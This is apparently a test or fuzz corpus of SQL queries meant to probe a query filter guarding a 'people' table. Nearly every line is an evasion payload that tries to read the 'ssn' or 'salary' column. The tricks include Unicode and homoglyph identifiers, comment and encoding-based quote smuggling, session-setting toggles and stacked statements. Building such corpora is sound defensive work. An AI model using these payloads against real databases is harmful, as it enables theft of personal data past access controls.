SELECT U&"\0073sn" FROM people
SELECT U&"!0073sn" UESCAPE '!' FROM people
SELECT "ssn" FROM "people"
SELECT SsN FROM PeOpLe
SELECT ssn/**/FROM/**/people
SELECT/* /* nested */ */ssn FROM people
SELECT id -- x\x0d, ssn FROM people
SELECT id -- x\x0a, ssn FROM people
SELECT id /* */, ssn /* -- */ FROM people
SELECT $$x$$, ssn FROM people
SELECT $a$ ' $a$, ssn, $b$ ' $b$ FROM people
SELECT 'x'\x0a'y', ssn FROM people
SELECT E'\x27', ssn FROM people
SELECT E'a\\'' , ssn, '' FROM people
SELECT '\\' , ssn , ' x' FROM people
SELECT U&'\0061', ssn FROM people
SELECT B'1', X'1f', ssn FROM people
SELECT N'x', ssn FROM people
SELECT ssn\x00 FROM people
SELECT name FROM people WHERE name = '\xff\xfe' OR ssn > 'm'
SELECT '\xbf\x27, ssn, \x27x' FROM people
SELECT '\x95\x5c', ssn FROM people
SELECT '\xc0\xa7' , ssn FROM people
SELECT ѕѕn FROM people
SELECT ssn\xe2\x80\x8b FROM people
SELECT\xc2\xa0ssn FROM people
SELECT\x0bssn\x0cFROM\x09people
SELECT aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa FROM people
WITH aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa1 AS (SELECT 1 AS x), aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa2 AS (SELECT ssn AS x FROM people) SELECT x FROM aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa2
SELECT q."aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa1" FROM (SELECT ssn AS "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa2" FROM people) q
DECLARE aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa1 CURSOR WITH HOLD FOR SELECT id FROM orders ;; DECLARE aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa2 CURSOR WITH HOLD FOR SELECT salary FROM people ;; FETCH 1 FROM aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa1
PREPARE aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa1 AS SELECT salary FROM people ;; EXECUTE aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa2
SET standard_conforming_strings = off ;; SELECT '\\' || ssn || '' FROM people
SET standard_conforming_strings TO off; SELECT 'a\\' , ssn, ' '
SET backslash_quote = on ;; SELECT E'\\'', ssn FROM people
SET client_encoding = SJIS ;; SELECT ssn FROM people
SET NAMES 'GBK' ;; SELECT '\xbf\x5c' , ssn FROM people
SET client_encoding TO 'BIG5'
SET client_encoding TO DEFAULT ;; SELECT ssn FROM people
SET quote_all_identifiers = on ;; SELECT ssn FROM people
SET escape_string_warning = off ;; SELECT '\a', ssn FROM people
SET array_nulls = off ;; SELECT ssn FROM people
SET transform_null_equals = on ;; SELECT name FROM people WHERE ssn = NULL
SELECT ssn FROM people;
;;SELECT ssn FROM people
[simple] SELECT 1; SELECT ssn FROM people; SELECT 2
[simple] ; ; SELECT ssn FROM people;;
[simple] SELECT 1 \; SELECT ssn FROM people
[simple] BEGIN; SELECT ssn FROM people; COMMIT
[simple] SELECT 1;--x\x0aSELECT ssn FROM people
[simple] SELECT name FROM people; SET search_path = shadow; SELECT name FROM people
[simple] COMMIT; SELECT ssn FROM people; ROLLBACK
SELECT $1::text, ssn FROM people
SELECT ssn FROM people WHERE id = $1
SELECT * FROM people LIMIT ALL
SELECT ssn "a;b" FROM people
SELECT ssn AS "id\x0a(1 row)" FROM people
SELECT p."ssn" AS "\xe2\x80\xae" FROM public."people" p
[restless] SELECT attackdb0.public.people.ssn FROM attackdb0.public.people
SELECT public.people.ssn FROM public.people
SELECT (people).ssn FROM people
SELECT people.* FROM people
SELECT ((((((((((ssn)))))))))) FROM people
SELECT "people"."ssn"::"pg_catalog"."text" FROM people
SELECT ssn::pg_catalog.varchar(3)::text FROM people
SELECT ALL ssn FROM people
SELECT x'ssn', 1 AS ssn
SELECT all(ssn) FROM people
